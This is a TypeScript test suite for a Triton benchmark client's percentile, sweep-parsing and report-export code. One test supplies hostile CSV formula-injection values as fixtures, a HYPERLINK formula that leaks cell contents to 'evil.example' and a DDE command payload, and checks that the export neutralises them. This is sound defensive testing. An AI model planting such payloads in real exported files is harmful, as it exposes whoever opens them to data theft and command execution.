/** Pure parts of `triton-jetson bench`: percentiles, sweep parsing, report aggregation and the CSV/JSON shapes. */
import { benchCsv, benchJson, BenchReport, CSV_COLUMNS, stepReport } from '../../client/bench-report';
import { LatencyRecorder, nearestRank, parseRange, summarizeLatencies } from '../../client/bench-stats';
import type { NodeStepRecord } from '../../client/bench-load';

describe('percentiles (perf_analyzer: sorted[floor(p/100 * (n-1) + 0.5)])', () => {
  test('1..100: p50 is 51 (index round(49.5) = 50), p90 is 90, p99 is 99', () => {
    const sorted = Array.from({ length: 100 }, (_, i) => i + 1);
    expect(nearestRank(sorted, 50)).toBe(51);
    expect(nearestRank(sorted, 90)).toBe(90);
    expect(nearestRank(sorted, 95)).toBe(95);
    expect(nearestRank(sorted, 99)).toBe(99);
    expect(nearestRank(sorted, 100)).toBe(100);
    expect(nearestRank(sorted, 0)).toBe(1);
  });

  test('always a sample, never an interpolation', () => {
    const sorted = [10, 20, 30, 40];
    // p50: floor(0.5 * 3 + 0.5) = 2 -> 30; p90: floor(2.7 + 0.5) = 3 -> 40; p10: floor(0.3 + 0.5) = 0 -> 10.
    expect(nearestRank(sorted, 50)).toBe(30);
    expect(nearestRank(sorted, 90)).toBe(40);
    expect(nearestRank(sorted, 10)).toBe(10);
    expect(nearestRank([7], 99)).toBe(7);
    expect(nearestRank([], 50)).toBeNaN();
    expect(() => nearestRank(sorted, 101)).toThrow(RangeError);
  });

  test('summarizeLatencies sorts a copy and reports avg/min/max and an extra percentile', () => {
    const values = Float64Array.from([5, 1, 4, 2, 3]);
    const s = summarizeLatencies(values, 75);
    expect(Array.from(values)).toEqual([5, 1, 4, 2, 3]);
    expect(s).toMatchObject({ count: 5, avg: 3, min: 1, max: 5, p50: 3, p90: 5, p99: 5, extra: { percentile: 75, value: 4 } });
    expect(summarizeLatencies([]).avg).toBeNaN();
  });

  test('LatencyRecorder grows past its first block and keeps every value', () => {
    const r = new LatencyRecorder();
    for (let i = 0; i < 5000; i++) r.add(i);
    expect(r.count).toBe(5000);
    expect(r.view()[4999]).toBe(4999);
  });
});

describe('sweeps (--concurrency-range / --request-rate-range)', () => {
  test('start:end:step as perf_analyzer, defaults end=start and step=1', () => {
    expect(parseRange('1:4:1', 'c', true)).toEqual([1, 2, 3, 4]);
    expect(parseRange('2:8:2', 'c', true)).toEqual([2, 4, 6, 8]);
    expect(parseRange('1:8:3', 'c', true)).toEqual([1, 4, 7]);
    expect(parseRange('3', 'c', true)).toEqual([3]);
    expect(parseRange('1:3', 'c', true)).toEqual([1, 2, 3]);
    expect(parseRange('0.5:1.5:0.5', 'r', false)).toEqual([0.5, 1, 1.5]);
    expect(parseRange('0.1:0.3:0.1', 'r', false)).toEqual([0.1, 0.2, 0.3]);
  });

  test('a list 1,2,4,8', () => {
    expect(parseRange('1,2,4,8', 'c', true)).toEqual([1, 2, 4, 8]);
  });

  test.each([
    ['0', /not positive/], ['1.5', /not a whole number/], ['a:2', /"a" is not a number/], ['4:2', /end 2 is below start 4/],
    ['1:2:3:4', /more than three parts/], ['1,2:3', /mixes a list/], ['1:100000:1', /too many/], ['', /not a number/],
  ])('%j is refused with a reason and the syntax', (text, reason) => {
    expect(() => parseRange(text, '--concurrency-range', true)).toThrow(reason);
    expect(() => parseRange(text, '--concurrency-range', true)).toThrow(/start:end:step/);
  });
});

function record(node: string, latenciesMs: number[], errors: string[] = [], elapsedMs = 1000): NodeStepRecord {
  const counts = new Map<string, number>();
  for (const e of errors) counts.set(e, (counts.get(e) ?? 0) + 1);
  return {
    node, requests: latenciesMs.length + errors.length, successes: latenciesMs.length, errors: errors.length,
    errorMessages: [...counts].map(([message, count]) => ({ message, count })),
    otherErrors: 0,
    latenciesUs: Float64Array.from(latenciesMs, (v) => v * 1000), delayed: 0, elapsedMs,
  };
}

function report(): BenchReport {
  const step = stepReport({ kind: 'concurrency', value: 2 }, [[
    record('nano-1', [10, 20, 30, 40], [], 500),
    record('nano-2', [50, 60], [], 1000),
    record('nano-3', [], ['HTTP 500: GPU, "hot"', 'HTTP 500: GPU, "hot"'], 1000),
  ]], 2, 75);
  return {
    model: 'inception_graphdef', modelVersion: '', batchSize: 2, inputShape: [2, 299, 299, 3], inputData: 'random', requestBytes: 123,
    nodes: [{ name: 'nano-1', url: 'http://a' }, { name: 'nano-2', url: 'http://b' }, { name: 'nano-3', url: 'http://c' }], percentile: 75,
    stabilityPercentage: 10, maxTrials: 1, steps: [step],
  };
}

describe('step figures', () => {
  test('throughput = successes x batch / the node\'s own time; total = sum; shares of successes; pooled latencies', () => {
    const step = report().steps[0];
    const [a, b, c] = step.nodes;
    expect(a.inferPerSec).toBeCloseTo((4 * 2) / 0.5);
    expect(b.inferPerSec).toBeCloseTo(2 * 2);
    expect(c.inferPerSec).toBe(0);
    expect(step.total.inferPerSec).toBeCloseTo(20);
    expect([a.share, b.share, c.share]).toEqual([4 / 6, 2 / 6, 0]);
    expect(c.errorMessages).toEqual([{ message: 'HTTP 500: GPU, "hot"', count: 2 }]);
    expect(step.total).toMatchObject({ requests: 8, successes: 6, errors: 2 });
    // pooled 10,20,30,40,50,60 ms: p50 index floor(2.5+0.5)=3 -> 40 ms
    expect(step.total.latencyUs.p50).toBe(40_000);
    expect(a.latencyUs.extra).toEqual({ percentile: 75, value: 30_000 });
  });
});

describe('machine output', () => {
  test('CSV: perf_analyzer-style header, one row per node and step plus "all nodes", RFC 4180 quoting, CRLF', () => {
    const csv = benchCsv(report());
    const lines = csv.split('\r\n');
    expect(lines.at(-1)).toBe('');
    expect(lines[0]).toBe([...CSV_COLUMNS, 'p75 latency'].join(','));
    expect(lines[0]).toContain('Inferences/Second');
    expect(lines[0]).toContain('p99 latency');
    expect(lines).toHaveLength(1 + 4 + 1);
    expect(lines[1].startsWith('concurrency,2,,nano-1,16.00,4,4,0,0.6667,30000,40000,40000,40000,25000,10000,40000,0,500.0,1,no,,30000')).toBe(true);
    expect(lines[3]).toContain('"2 x HTTP 500: GPU, ""hot"""');
    // empty latency cells for a node without a success
    expect(lines[3]).toMatch(/^concurrency,2,,nano-3,0\.00,2,0,2,0\.0000,,,,,,,,0,1000\.0,1,no,/);
    expect(lines[4]).toMatch(/^concurrency,2,,all nodes,20\.00,8,6,2,/);
  });

  test('CSV: no cell a server wrote can start a spreadsheet formula (= + - @, tab, CR)', () => {
    const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+cmd|\'/c calc\'!A1', '-2+3', '@SUM(A1)', '\t=1', '\r=1'];
    const r = report();
    const step = stepReport({ kind: 'concurrency', value: 1 }, [[record('nano-1', [10], hostile)]], 1);
    const csv = benchCsv({ ...r, nodes: [r.nodes[0]], steps: [step] });
    // Split on the quoting-aware boundary: every field is either quoted or free of commas.
    const cells = csv.split('\r\n').slice(1, -1).flatMap((line) => line.match(/("([^"]|"")*"|[^,]*)(,|$)/g)!.map((c) => c.replace(/,$/, '').replace(/^"|"$/g, '')));
    expect(cells.some((c) => c.startsWith('1 x =HYPERLINK('))).toBe(true);
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
  });

  test('JSON: the report with latencies in µs, NaN as null, no raw samples', () => {
    const parsed = JSON.parse(benchJson(report())) as Record<string, unknown> & { steps: { nodes: { latencyUs: Record<string, unknown> }[] }[] };
    expect(Object.keys(parsed)).toEqual(['model', 'modelVersion', 'batchSize', 'inputShape', 'inputData', 'requestBytes', 'nodes', 'percentile', 'stabilityPercentage', 'maxTrials', 'steps']);
    const step = parsed.steps[0] as unknown as Record<string, unknown>;
    expect(Object.keys(step)).toEqual(['mode', 'value', 'elapsedMs', 'total', 'nodes', 'stable', 'windowCount']);
    expect(parsed.steps[0].nodes[0].latencyUs).toMatchObject({ count: 4, p50: 30000, p90: 40000, p99: 40000 });
    expect(parsed.steps[0].nodes[2].latencyUs.p50).toBeNull();
    expect(JSON.stringify(parsed)).not.toContain('latenciesUs');
  });
});
